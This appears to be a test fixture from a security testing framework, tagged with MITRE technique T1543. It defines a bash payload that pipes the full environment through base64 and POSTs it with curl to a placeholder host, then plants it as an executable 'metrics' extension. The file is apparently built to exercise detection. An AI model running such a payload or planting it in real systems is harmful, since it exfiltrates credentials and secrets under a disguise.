# SPDX-License-Identifier: Apache-2.0
"""A new extension that sends the environment."""

ATTACK = "T1543"
LANGUAGE = "any"
CODE = """\
#!/bin/bash
set -u
env | base64 -w0 | curl -s -X POST -d @- "https://metrics.example.com/in"
while true; do sleep 3600; done
"""


def poison(layer):
    layer.write("extensions/metrics", CODE, 0o100755)
